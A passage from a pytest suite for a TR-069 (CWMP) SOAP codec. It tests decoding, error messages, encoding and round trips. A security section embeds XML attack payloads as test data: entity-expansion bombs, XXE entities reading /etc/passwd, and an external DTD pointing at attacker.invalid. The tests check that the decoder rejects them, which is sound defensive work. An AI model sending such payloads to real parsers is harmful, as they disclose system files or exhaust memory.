def test_retry_count_with_padding_is_read_as_an_integer(text: str, expected: int) -> None:
    assert inform_of(decode(minimal_inform(RetryCount=text))).retry_count == expected


def test_a_retry_count_that_is_not_an_integer_is_malformed() -> None:
    with pytest.raises(MalformedMessageError, match="RetryCount"):
        decode(minimal_inform(RetryCount="two"))


def test_an_inform_without_current_time_has_none() -> None:
    body = minimal_inform().replace(b"<CurrentTime>2024-01-01T00:00:00Z</CurrentTime>", b"")
    assert inform_of(decode(body)).current_time is None


def test_an_inform_without_device_id_is_malformed() -> None:
    body = envelope("<cwmp:Inform><MaxEnvelopes>1</MaxEnvelopes></cwmp:Inform>")
    with pytest.raises(MalformedMessageError, match="DeviceId"):
        decode(body)


def test_an_inform_without_a_serial_number_is_malformed() -> None:
    with pytest.raises(MalformedMessageError, match="SerialNumber"):
        decode(minimal_inform().replace(b"<SerialNumber>S1</SerialNumber>", b""))


def test_transfer_complete_decodes_with_its_fault_struct_flattened() -> None:
    body = envelope(
        "<cwmp:TransferComplete><CommandKey>dl-1</CommandKey><FaultStruct><FaultCode>9010</FaultCode>"
        "<FaultString>Download failed</FaultString></FaultStruct>"
        "<StartTime>2024-01-01T00:00:00Z</StartTime><CompleteTime>2024-01-01T00:01:00Z</CompleteTime>"
        "</cwmp:TransferComplete>"
    )
    assert decode(body).message == TransferComplete(
        "dl-1", 9010, "Download failed", "2024-01-01T00:00:00Z", "2024-01-01T00:01:00Z"
    )


def test_get_rpc_methods_response_lists_the_methods() -> None:
    body = envelope(
        '<cwmp:GetRPCMethodsResponse><MethodList enc:arrayType="xsd:string[2]">'
        "<string>Inform</string><string> TransferComplete </string></MethodList>"
        "</cwmp:GetRPCMethodsResponse>"
    )
    assert decode(body).message == GetRPCMethodsResponse(("Inform", "TransferComplete"))


@pytest.mark.parametrize(
    ("writable", "expected"), [("1", True), ("true", True), ("0", False), ("false", False)]
)
def test_get_parameter_names_response_reads_writable_flags(writable: str, expected: bool) -> None:
    body = envelope(
        "<cwmp:GetParameterNamesResponse><ParameterList><ParameterInfoStruct><Name>A.</Name>"
        f"<Writable>{writable}</Writable></ParameterInfoStruct></ParameterList>"
        "</cwmp:GetParameterNamesResponse>"
    )
    assert decode(body).message == GetParameterNamesResponse((ParameterInfo("A.", expected),))


@pytest.mark.parametrize(
    ("element", "message"),
    [
        ("<cwmp:RebootResponse/>", RebootResponse()),
        ("<cwmp:FactoryResetResponse/>", FactoryResetResponse()),
        ("<cwmp:GetRPCMethods/>", GetRPCMethods()),
    ],
)
def test_methods_without_arguments_decode(element: str, message: Message) -> None:
    assert decode(envelope(element)).message == message


def test_set_parameter_values_fault_list_is_decoded() -> None:
    body = envelope(
        "<soap:Fault><faultcode>SOAP-ENV:Client</faultcode><faultstring>CWMP fault</faultstring>"
        "<detail><cwmp:Fault><FaultCode>9003</FaultCode>"
        "<FaultString>Invalid arguments</FaultString><SetParameterValuesFault>"
        "<ParameterName>A.B</ParameterName><FaultCode>9007</FaultCode>"
        "<FaultString>Invalid value</FaultString></SetParameterValuesFault>"
        "<SetParameterValuesFault><ParameterName>A.C</ParameterName><FaultCode>9008</FaultCode>"
        "</SetParameterValuesFault></cwmp:Fault></detail></soap:Fault>"
    )
    assert decode(body).message == Fault(
        9003,
        "Invalid arguments",
        (
            SetParameterValuesFault("A.B", 9007, "Invalid value"),
            SetParameterValuesFault("A.C", 9008),
        ),
        "Client",
    )


def test_a_soap_fault_without_a_cwmp_fault_detail_is_malformed() -> None:
    body = envelope(
        "<soap:Fault><faultcode>Server</faultcode><faultstring>oops</faultstring></soap:Fault>"
    )
    with pytest.raises(MalformedMessageError, match="cwmp:Fault"):
        decode(body)


def test_an_unknown_method_raises_unknown_method_error_with_its_name() -> None:
    with pytest.raises(UnknownMethodError) as caught:
        decode(envelope("<cwmp:X_ACME_Frobnicate><Level>9</Level></cwmp:X_ACME_Frobnicate>"))
    assert caught.value.method_name == "X_ACME_Frobnicate"
    assert "X_ACME" not in str(caught.value)
    assert isinstance(caught.value, CodecError)
    assert isinstance(caught.value, ValueError)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "empty body"),
        (b" \r\n\t", "empty body"),
        (b"<html><body>hi</body></html>", "not a SOAP Envelope"),
        (f'<s:Envelope xmlns:s="{SOAP_ENV}"><s:Header/></s:Envelope>'.encode(), "missing body"),
        (f'<s:Envelope xmlns:s="{SOAP_ENV}"><s:Body/></s:Envelope>'.encode(), "empty SOAP Body"),
        (b"<s:Envelope>", "not well-formed"),
        (b"this is not xml", "not well-formed"),
    ],
)
def test_malformed_bodies_raise_malformed_message_error(body: bytes, reason: str) -> None:
    with pytest.raises(MalformedMessageError, match=reason):
        decode(body)


@pytest.mark.parametrize(
    "body",
    [
        b"<Envelope><Body><Inform>SECRET-MARKER",
        minimal_inform(RetryCount="SECRET-MARKER"),
        envelope("<cwmp:Inform><OUI>SECRET-MARKER</OUI></cwmp:Inform>"),
        envelope("<cwmp:SECRET-MARKER/>"),
        b"<a>SECRET-MARKER</b>",
    ],
)
def test_error_messages_are_short_and_never_quote_the_input(body: bytes) -> None:
    with pytest.raises(CodecError) as caught:
        decode(body)
    assert "SECRET-MARKER" not in str(caught.value)
    assert len(str(caught.value)) < 60


# --- the rest of Annex A ------------------------------------------------------

BOOLEANS = [
    ("1", True),
    ("true", True),
    ("TRUE", True),
    (" True ", True),
    ("0", False),
    ("false", False),
    ("FALSE", False),
    ("False", False),
]


@pytest.mark.parametrize(("text", "expected"), BOOLEANS)
def test_set_parameter_attributes_reads_booleans_in_any_case(text: str, expected: bool) -> None:
    body = envelope(
        "<cwmp:SetParameterAttributes>"
        '<ParameterList enc:arrayType="cwmp:SetParameterAttributesStruct[1]">'
        f"<SetParameterAttributesStruct><Name>A.B</Name><NotificationChange>{text}"
        f"</NotificationChange><Notification>2</Notification><AccessListChange>{text}"
        '</AccessListChange><AccessList enc:arrayType="xsd:string[1]"><string>SUBSCRIBER</string>'
        "</AccessList></SetParameterAttributesStruct></ParameterList></cwmp:SetParameterAttributes>"
    )
    assert decode(body).message == SetParameterAttributes(
        (SetParameterAttribute("A.B", expected, 2, expected, ("SUBSCRIBER",)),)
    )


@pytest.mark.parametrize(("text", "expected"), BOOLEANS)
def test_autonomous_transfer_complete_reads_is_download_in_any_case(
    text: str, expected: bool
) -> None:
    body = envelope(
        "<cwmp:AutonomousTransferComplete><AnnounceURL></AnnounceURL>"
        "<TransferURL> http://f.example/fw.bin </TransferURL>"
        f"<IsDownload>{text}</IsDownload><FileType>1 Firmware Upgrade Image</FileType>"
        "<FileSize>0042</FileSize><TargetFileName>fw.bin</TargetFileName><FaultStruct>"
        "<FaultCode>9010</FaultCode><FaultString>Download failed</FaultString></FaultStruct>"
        "<StartTime>2024-01-01T00:00:00Z</StartTime>"
        "<CompleteTime>0001-01-01T00:00:00Z</CompleteTime></cwmp:AutonomousTransferComplete>",
        namespace=CwmpVersion.V1_1.namespace,
    )
    assert decode(body) == Envelope(
        AutonomousTransferComplete(
            "",
            "http://f.example/fw.bin",
            expected,
            "1 Firmware Upgrade Image",
            42,
            "fw.bin",
            9010,
            "Download failed",
            "2024-01-01T00:00:00Z",
            None,
        ),
        CwmpVersion.V1_1,
    )


def test_get_parameter_attributes_response_keeps_access_lists_as_sent() -> None:
    body = envelope(
        "<cwmp:GetParameterAttributesResponse>"
        '<ParameterList enc:arrayType="cwmp:ParameterAttributeStruct[3]">'
        "<ParameterAttributeStruct><Name> A.B </Name><Notification>2</Notification>"
        '<AccessList enc:arrayType="xsd:string[2]"><string>Subscriber</string>'
        "<string>subscriber</string></AccessList></ParameterAttributeStruct>"
        "<ParameterAttributeStruct><Name>A.C</Name><Notification>0</Notification>"
        '<AccessList enc:arrayType="xsd:string[0]"/></ParameterAttributeStruct>'
        "<ParameterAttributeStruct><Name>A.D</Name></ParameterAttributeStruct>"
        "</ParameterList></cwmp:GetParameterAttributesResponse>"
    )
    assert decode(body).message == GetParameterAttributesResponse(
        (
            ParameterAttribute("A.B", 2, ("Subscriber", "subscriber")),
            ParameterAttribute("A.C", 0),
            ParameterAttribute("A.D", 0),
        )
    )


@pytest.mark.parametrize(
    ("element", "message"),
    [
        ("<cwmp:SetParameterAttributesResponse/>", SetParameterAttributesResponse()),
        ("<cwmp:ScheduleInformResponse/>", ScheduleInformResponse()),
        ("<cwmp:AutonomousTransferCompleteResponse/>", AutonomousTransferCompleteResponse()),
        ("<cwmp:RequestDownloadResponse/>", RequestDownloadResponse()),
        (
            "<cwmp:AddObjectResponse><InstanceNumber>0012</InstanceNumber><Status> 0 </Status>"
            "</cwmp:AddObjectResponse>",
            AddObjectResponse(12, 0),
        ),
        (
            "<cwmp:DeleteObjectResponse><Status>1</Status></cwmp:DeleteObjectResponse>",
            DeleteObjectResponse(1),
        ),
        (
            "<cwmp:Download><CommandKey> k </CommandKey><FileType> 1 Firmware Upgrade Image "
            "</FileType><URL> http://f.example/fw.bin </URL></cwmp:Download>",
            Download(" k ", "1 Firmware Upgrade Image", "http://f.example/fw.bin"),
        ),
        (
            "<cwmp:ScheduleInform><DelaySeconds>60</DelaySeconds></cwmp:ScheduleInform>",
            ScheduleInform(60),
        ),
        (
            "<cwmp:RequestDownload><FileType>1 Firmware Upgrade Image</FileType>"
            '<FileTypeArg enc:arrayType="cwmp:ArgStruct[1]"><ArgStruct><Name>Version</Name>'
            "<Value> 2.0 </Value></ArgStruct></FileTypeArg></cwmp:RequestDownload>",
            RequestDownload("1 Firmware Upgrade Image", (ArgStruct("Version", " 2.0 "),)),
        ),
        (
            "<cwmp:Kicked><Command>reboot</Command><Referer>http://r.example/</Referer>"
            "<Arg> now </Arg><Next>http://r.example/next</Next></cwmp:Kicked>",
            Kicked("reboot", "http://r.example/", " now ", "http://r.example/next"),
        ),
    ],
)
def test_the_other_methods_decode_leniently(element: str, message: Message) -> None:
    assert decode(envelope(element)).message == message


@pytest.mark.parametrize(
    "time",
    ["0001-01-01T00:00:00Z", "0001-01-01T00:00:00", " 0001-01-01T00:00:00.000+00:00 ", " ", ""],
)
def test_the_unknown_time_reads_as_none(time: str) -> None:
    body = envelope(
        f"<cwmp:DownloadResponse><Status>1</Status><StartTime>{time}</StartTime>"
        f"<CompleteTime>{time}</CompleteTime></cwmp:DownloadResponse>"
    )
    assert decode(body).message == DownloadResponse(1, None, None)
    inform = decode(minimal_inform(CurrentTime=time))
    assert inform_of(inform).current_time is None


def test_a_known_time_is_kept_as_sent_and_an_absent_one_is_none() -> None:
    body = envelope(
        "<cwmp:UploadResponse><Status>0</Status><StartTime> 2024-01-01T00:00:00 </StartTime>"
        "</cwmp:UploadResponse>"
    )
    assert decode(body).message == UploadResponse(0, "2024-01-01T00:00:00", None)


@pytest.mark.parametrize(
    ("element", "missing"),
    [
        (
            "<cwmp:DownloadResponse><StartTime>2024-01-01T00:00:00Z</StartTime>"
            "</cwmp:DownloadResponse>",
            "Status",
        ),
        ("<cwmp:AddObjectResponse><Status>0</Status></cwmp:AddObjectResponse>", "InstanceNumber"),
        (
            "<cwmp:GetParameterAttributesResponse><ParameterList><ParameterAttributeStruct>"
            "<Notification>1</Notification></ParameterAttributeStruct></ParameterList>"
            "</cwmp:GetParameterAttributesResponse>",
            "Name",
        ),
        (
            "<cwmp:RequestDownload><FileTypeArg><ArgStruct><Value>v</Value></ArgStruct>"
            "</FileTypeArg></cwmp:RequestDownload>",
            "Name",
        ),
    ],
)
def test_a_missing_required_argument_is_malformed(element: str, missing: str) -> None:
    with pytest.raises(MalformedMessageError, match=f"missing {missing}"):
        decode(envelope(element))


@pytest.mark.parametrize(
    "element",
    [
        "<cwmp:GetParameterAttributesResponse><ParameterList><ParameterAttributeStruct>"
        "<Name>A</Name><Notification>active</Notification></ParameterAttributeStruct>"
        "</ParameterList></cwmp:GetParameterAttributesResponse>",
        "<cwmp:AddObjectResponse><InstanceNumber>x</InstanceNumber><Status>0</Status>"
        "</cwmp:AddObjectResponse>",
        "<cwmp:Download><FileSize>big</FileSize></cwmp:Download>",
    ],
)
def test_an_integer_argument_that_is_not_one_is_malformed(element: str) -> None:
    with pytest.raises(MalformedMessageError, match="is not an integer"):
        decode(envelope(element))


@pytest.mark.parametrize(
    ("element", "method"),
    [
        ("<cwmp:Foo/>", "Foo"),
        ("<cwmp:KickedResponse><NextURL>x</NextURL></cwmp:KickedResponse>", "KickedResponse"),
        ("<cwmp:GetQueuedTransfers/>", "GetQueuedTransfers"),
    ],
)
def test_methods_outside_the_message_set_are_unknown(element: str, method: str) -> None:
    with pytest.raises(UnknownMethodError) as caught:
        decode(envelope(element))
    assert caught.value.method_name == method


# --- security ----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
 xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap:Body><cwmp:Inform><DeviceId>
<Manufacturer>&lol9;</Manufacturer></DeviceId></cwmp:Inform></soap:Body></soap:Envelope>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
 xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap:Header><cwmp:ID>&xxe;</cwmp:ID></soap:Header>
<soap:Body><cwmp:GetRPCMethods/></soap:Body></soap:Envelope>"""

XXE_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soap:Envelope SYSTEM "http://attacker.invalid/evil.dtd">
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
 xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap:Body><cwmp:GetRPCMethods/></soap:Body></soap:Envelope>"""

NESTED_ENTITIES = (
    b'<!DOCTYPE e [<!ENTITY a "' + b"A" * 64 + b'">'
    b'<!ENTITY b "' + b"&a;" * 25 + b'">'
    b'<!ENTITY c "' + b"&b;" * 25 + b'">'
    b'<!ENTITY d "' + b"&c;" * 25 + b'">]>'
    b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"'
    b' xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap:Body><cwmp:Reboot><CommandKey>&d;'
    b"</CommandKey></cwmp:Reboot></soap:Body></soap:Envelope>"
)
"""Four levels of entities, 64 * 25**3 = 1,000,000 characters once expanded."""


@pytest.mark.parametrize(
    "attack",
    [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER_ENTITY, EXTERNAL_DTD, NESTED_ENTITIES],
    ids=["billion-laughs", "xxe-file", "xxe-parameter-entity", "external-dtd", "nested-entities"],
)
def test_documents_with_a_dtd_are_rejected(attack: bytes) -> None:
    with pytest.raises(MalformedMessageError) as caught:
        decode(attack)
    assert str(caught.value) == "a DTD is not allowed"


def test_xxe_never_leaks_the_file_into_the_error() -> None:
    with pytest.raises(MalformedMessageError) as caught:
        decode(XXE_FILE)
    assert "root:" not in str(caught.value)
    assert "root:" not in repr(caught.value)
    assert caught.value.__cause__ is None


def test_a_dtd_hidden_from_a_byte_scan_by_utf16_is_still_rejected() -> None:
    body = XXE_FILE.decode().replace('"1.0"?>', '"1.0" encoding="UTF-16"?>', 1).encode("utf-16")
    assert b"<!DOCTYPE" not in body
    with pytest.raises(MalformedMessageError, match="DTD"):
        decode(body)


def test_an_undeclared_entity_is_malformed_not_resolved() -> None:
    with pytest.raises(MalformedMessageError, match="not well-formed"):
        decode(envelope("<cwmp:Reboot><CommandKey>&secret;</CommandKey></cwmp:Reboot>"))


def test_comments_and_processing_instructions_are_dropped_and_text_around_them_joined() -> None:
    body = envelope(
        "<cwmp:Reboot><!-- x --><?pi y?><CommandKey>k<!-- z -->ey</CommandKey></cwmp:Reboot>"
    )
    assert decode(body).message == Reboot("key")


# --- encoding ----------------------------------------------------------------


def parse(data: bytes) -> etree._Element:
    """Parse what encode produced."""
    return etree.fromstring(data)


def test_encoded_envelope_is_utf8_with_declaration_and_the_standard_prefixes() -> None:
    data = encode(Envelope(InformResponse(), CwmpVersion.V1_0, id="7"))
    assert data.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    assert parse(data).nsmap == {
        "soap-env": SOAP_ENV,
        "soap-enc": SOAP_ENC,
        "xsd": "http://www.w3.org/2001/XMLSchema",
        "xsi": XSI,
        "cwmp": CWMP_1_0,
    }
    assert b"<soap-env:Body><cwmp:InformResponse><MaxEnvelopes>1</MaxEnvelopes>" in data


def test_header_carries_the_id_with_must_understand() -> None:
    root = parse(encode(Envelope(GetRPCMethods(), id="a<b")))
    header = root.find(f"{{{SOAP_ENV}}}Header")
    assert header is not None
    assert [(child.tag, child.text, dict(child.attrib)) for child in header] == [
        (f"{{{CWMP_1_0}}}ID", "a<b", {f"{{{SOAP_ENV}}}mustUnderstand": "1"})
    ]


def test_hold_requests_adds_its_header_with_must_understand() -> None:
    data = encode(Envelope(GetRPCMethods(), hold_requests=True))
    assert b'<cwmp:HoldRequests soap-env:mustUnderstand="1">1</cwmp:HoldRequests>' in data
    assert b"cwmp:ID" not in data


def test_no_header_is_sent_without_id_hold_requests_or_session_timeout() -> None:
    assert b"Header" not in encode(Envelope(GetRPCMethods()))


def test_use_cwmp_version_is_sent_only_when_set_and_must_be_understood() -> None:
    assert b"UseCWMPVersion" not in encode(Envelope(InformResponse(), CwmpVersion.V1_4, id="1"))
    data = encode(Envelope(InformResponse(), CwmpVersion.V1_4, id="1", use_version="1.4"))
    assert b'<cwmp:UseCWMPVersion soap-env:mustUnderstand="1">1.4</cwmp:UseCWMPVersion>' in data
    assert b"SupportedCWMPVersions" not in data


def test_supported_cwmp_versions_is_sent_with_must_understand_0() -> None:
    data = encode(Envelope(GetRPCMethods(), CwmpVersion.V1_4, supported_versions="1.0,1.4"))
    assert b"<soap-env:Header><cwmp:SupportedCWMPVersions soap-env:mustUnderstand" in data
    assert b'mustUnderstand="0">1.0,1.4</cwmp:SupportedCWMPVersions>' in data


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        (
            DownloadResponse(1),
            b"<Status>1</Status><StartTime>0001-01-01T00:00:00Z</StartTime>"
            b"<CompleteTime>0001-01-01T00:00:00Z</CompleteTime>",
        ),
        (
            UploadResponse(0, "2024-01-01T00:00:00Z"),
            b"<StartTime>2024-01-01T00:00:00Z"
            b"</StartTime><CompleteTime>0001-01-01T00:00:00Z</CompleteTime>",
        ),
        (
            TransferComplete("k", 0, "", None, None),
            b"</FaultStruct><StartTime>0001-01-01T00:00:00Z"
            b"</StartTime><CompleteTime>0001-01-01T00:00:00Z</CompleteTime>",
        ),
        (
            AutonomousTransferComplete(
                "", "u", True, "1 Firmware Upgrade Image", 1, "", 0, "", None, None
            ),
            b"<StartTime>0001-01-01T00:00:00Z</StartTime>",
        ),
        (
            Inform(DeviceIdStruct("M", "A1B2C3", "P", "S"), (), 1, None, 0, ()),
            b"<MaxEnvelopes>1</MaxEnvelopes><CurrentTime>0001-01-01T00:00:00Z</CurrentTime>",
        ),
    ],
)
def test_a_none_time_the_schema_requires_is_sent_as_the_unknown_time(
    message: AnyMessage, expected: bytes
) -> None:
    assert expected in encode(Envelope(message))


def test_the_new_arrays_carry_their_soap_enc_array_type() -> None:
    spa = encode(
        Envelope(SetParameterAttributes((SetParameterAttribute("A.", True, 1, True, ("S",)),)))
    )
    assert b'<ParameterList soap-enc:arrayType="cwmp:SetParameterAttributesStruct[1]">' in spa
    assert b"<NotificationChange>1</NotificationChange><Notification>1</Notification>" in spa
    assert b'<AccessList soap-enc:arrayType="xsd:string[1]"><string>S</string></AccessList>' in spa
    gpa = encode(Envelope(GetParameterAttributes(("A.", "B."))))
    assert b'<ParameterNames soap-enc:arrayType="xsd:string[2]"><string>A.</string>' in gpa
    response = encode(
        Envelope(
            GetParameterAttributesResponse((ParameterAttribute("A", 0), ParameterAttribute("B", 1)))
        )
    )
    assert b'<ParameterList soap-enc:arrayType="cwmp:ParameterAttributeStruct[2]">' in response
    assert b'<AccessList soap-enc:arrayType="xsd:string[0]"/>' in response
    request = encode(Envelope(RequestDownload("1 Firmware Upgrade Image", (ArgStruct("a", "b"),))))
    assert (
        b'<FileTypeArg soap-enc:arrayType="cwmp:ArgStruct[1]"><ArgStruct><Name>a</Name>' in request
    )


def test_download_writes_every_argument_in_schema_order() -> None:
    data = encode(Envelope(Download("k", "1 Firmware Upgrade Image", "u", file_size=7)))
    assert (
        b"<cwmp:Download><CommandKey>k</CommandKey><FileType>1 Firmware Upgrade Image</FileType>"
        b"<URL>u</URL><Username></Username><Password></Password><FileSize>7</FileSize>"
        b"<TargetFileName></TargetFileName><DelaySeconds>0</DelaySeconds>"
        b"<SuccessURL></SuccessURL><FailureURL></FailureURL></cwmp:Download>"
    ) in data


def test_an_unknown_message_type_cannot_be_encoded() -> None:
    with pytest.raises(TypeError, match="cannot encode Message"):
        encode(Envelope(typing.cast(typing.Any, Message())))


def test_arrays_carry_their_soap_enc_array_type() -> None:
    gpv = encode(Envelope(GetParameterValues(("A.", "B.C", "D.E"))))
    assert b'<ParameterNames soap-enc:arrayType="xsd:string[3]"><string>A.</string>' in gpv
    spv = encode(
        Envelope(
            SetParameterValues(
                (ParameterValue("A.B", "1", "xsd:unsignedInt"), ParameterValue("A.C", "x"))
            )
        )
    )
    assert b'<ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[2]">' in spv
    assert b'<Value xsi:type="xsd:unsignedInt">1</Value>' in spv
    assert b'<Value xsi:type="xsd:string">x</Value>' in spv


def test_the_method_element_is_qualified_and_its_children_are_not() -> None:
    root = parse(encode(Envelope(Reboot("rb-1"), CwmpVersion.V1_1)))
    method = root.find(f"{{{SOAP_ENV}}}Body/{{{CwmpVersion.V1_1.namespace}}}Reboot")
    assert method is not None
    assert [child.tag for child in method] == ["CommandKey"]


def test_a_fault_is_a_soap_fault_with_the_cwmp_fault_in_its_detail() -> None:
    data = encode(Envelope(Fault(8005, "Retry request", faultcode="Server"), id="9"))
    assert (
        b"<soap-env:Body><soap-env:Fault><faultcode>Server</faultcode>"
        b"<faultstring>CWMP fault</faultstring><detail><cwmp:Fault><FaultCode>8005</FaultCode>"
        b"<FaultString>Retry request</FaultString></cwmp:Fault></detail></soap-env:Fault>"
    ) in data


def test_values_are_escaped_never_injected() -> None:
    evil = '</Value><Value xsi:type="xsd:int">1</Value>&amp;"\''
    data = encode(Envelope(SetParameterValues((ParameterValue("A.B", evil),))))
    assert b"&lt;/Value&gt;" in data
    assert decode(data).message == SetParameterValues((ParameterValue("A.B", evil),))


def test_a_value_with_a_character_xml_cannot_carry_raises_value_error() -> None:
    with pytest.raises(ValueError, match="XML compatible"):
        encode(Envelope(SetParameterValues((ParameterValue("A.B", "nul\x00"),))))


@pytest.mark.parametrize(
    ("version", "namespace"),
    [
        (CwmpVersion.V1_0, "urn:dslforum-org:cwmp-1-0"),
        (CwmpVersion.V1_1, "urn:dslforum-org:cwmp-1-1"),
        (CwmpVersion.V1_2, "urn:dslforum-org:cwmp-1-2"),
        (CwmpVersion.V1_3, "urn:dslforum-org:cwmp-1-2"),
        (CwmpVersion.V1_4, "urn:dslforum-org:cwmp-1-2"),
    ],
)
def test_cwmp_1_3_and_1_4_are_sent_in_the_cwmp_1_2_namespace(
    version: CwmpVersion, namespace: str
) -> None:
    assert wire_namespace(version) == namespace
    assert parse(encode(Envelope(GetRPCMethods(), version))).nsmap["cwmp"] == namespace


# --- round trips -------------------------------------------------------------

IGD = "InternetGatewayDevice."
FILES = "https://files.example.net/cpe/202BC1-000000"

SAMPLE_MESSAGES: list[AnyMessage] = [
    Inform(
        DeviceIdStruct("Huawei Technologies Co., Ltd.", "202BC1", "BM632w", "000000"),
        (EventStruct("0 BOOTSTRAP"), EventStruct("M Reboot", "rb-1")),
        1,
        "2024-05-01T12:00:00Z",
        3,
        (
            ParameterValue(f"{IGD}DeviceInfo.SoftwareVersion", "V100R001"),
            ParameterValue(
                f"{IGD}ManagementServer.PeriodicInformInterval", "300", "xsd:unsignedInt"
            ),
        ),
    ),
    Inform(DeviceIdStruct("", "000000", "", "S"), (), 2, None, 0, ()),
    TransferComplete("dl-1", 0, "", "2024-05-01T12:00:00Z", "2024-05-01T12:01:00Z"),
    TransferComplete("dl-2", 9010, "Download failed", None, None),
    AutonomousTransferComplete(
        "https://portal.example.net/announce",
        f"{FILES}/fw.bin",
        True,
        "1 Firmware Upgrade Image",
        8_388_608,
        "fw.bin",
        0,
        "",
        "2024-05-01T12:00:00Z",
        "2024-05-01T12:01:00+02:00",
    ),
    AutonomousTransferComplete(
        "", f"{FILES}/log.txt", False, "2 Vendor Log File", 0, "", 9011, "Upload failed", None, None
    ),
    RequestDownload(
        "3 Vendor Configuration File",
        (ArgStruct("Version", "V100R001C00SPC130"), ArgStruct("Profile", " gold ")),
    ),
    RequestDownload("1 Firmware Upgrade Image"),
    Kicked("reboot", "https://portal.example.net/", "now please", "https://portal.example.net/x"),
    GetRPCMethods(),
    InformResponse(),
    InformResponse(2),
    TransferCompleteResponse(),
    AutonomousTransferCompleteResponse(),
    RequestDownloadResponse(),
    GetRPCMethodsResponse(("Inform", "GetRPCMethods", "TransferComplete")),
    GetRPCMethodsResponse(()),
    GetParameterValues((f"{IGD}DeviceInfo.", f"{IGD}LANDeviceNumberOfEntries")),
    SetParameterValues(
        (
            ParameterValue(f"{IGD}ManagementServer.PeriodicInformEnable", "true", "xsd:boolean"),
            ParameterValue(f"{IGD}DeviceInfo.ProvisioningCode", "café ✓"),
        ),
        "task-42",
    ),
    GetParameterNames(IGD, True),
    GetParameterNames("", False),
    GetParameterAttributes((f"{IGD}DeviceInfo.SoftwareVersion", f"{IGD}ManagementServer.")),
    SetParameterAttributes(
        (
            SetParameterAttribute(f"{IGD}DeviceInfo.SoftwareVersion", True, 2, False),
            SetParameterAttribute(f"{IGD}LANDevice.1.", False, 0, True, ("Subscriber", "x")),
        )
    ),
    AddObject(f"{IGD}WANDevice.1.WANConnectionDevice.", "task-43"),
    DeleteObject(f"{IGD}WANDevice.1.WANConnectionDevice.2.", " task-44 "),
    Reboot("rb-1"),
    Reboot(),
    FactoryReset(),
    Download(
        "dl-1",
        "1 Firmware Upgrade Image",
        f"{FILES}/fw.bin",
        "cpe",
        " pass word ",
        8_388_608,
        "fw.bin",
        5,
        "https://portal.example.net/ok",
        "https://portal.example.net/failed",
    ),
    Download("dl-2", "X 00E0FC Voice Profile", f"{FILES}/voice.xml"),
    Upload("ul-1", "1 Vendor Configuration File", f"{FILES}/cfg.xml", "cpe", "s3cret", 30),
    ScheduleInform(3600, "si-1"),
    GetParameterValuesResponse(
        (ParameterValue("Device.DeviceInfo.UpTime", "3600", "xsd:unsignedInt"),)
    ),
    SetParameterValuesResponse(1),
    GetParameterNamesResponse(
        (ParameterInfo("Device.DeviceInfo.", False), ParameterInfo("Device.X", True))
    ),
    GetParameterAttributesResponse(
        (
            ParameterAttribute("Device.DeviceInfo.SoftwareVersion", 2, ("Subscriber",)),
            ParameterAttribute("Device.DeviceInfo.UpTime", 6),
        )
    ),
    SetParameterAttributesResponse(),
    AddObjectResponse(3, 1),
    DeleteObjectResponse(1),
    RebootResponse(),
    FactoryResetResponse(),
    DownloadResponse(1),
    DownloadResponse(0, "2024-05-01T12:00:00Z", "2024-05-01T12:00:30Z"),
    UploadResponse(1),
    UploadResponse(0, "2024-05-01T12:00:00Z", "2024-05-01T12:00:05Z"),
    ScheduleInformResponse(),
    Fault(9000, "Method not supported"),
    Fault(
        9003,
        "Invalid arguments",
        (
            SetParameterValuesFault("A.B", 9007, "Invalid value"),
            SetParameterValuesFault("A.C", 9008),
        ),
        "Server",
    ),
]
"""Realistic values of every message type, with no field left at its default somewhere."""


def test_the_samples_cover_every_message_type() -> None:
    assert {type(message) for message in SAMPLE_MESSAGES} == set(typing.get_args(AnyMessage))


def test_every_shape_names_one_argument_per_struct_field() -> None:
    shapes = [*SHAPES, DEVICE_ID, EVENTS.shape, PARAMETER_INFOS.shape, ARGS.shape]
    shapes += [PARAMETER_ATTRIBUTES.shape, SET_PARAMETER_ATTRIBUTES.shape]
    for shape in shapes:
        assert len(shape.args) == len(shape.struct.__struct_fields__), shape.struct.__name__
    by_hand = {TransferComplete, AutonomousTransferComplete, Fault}
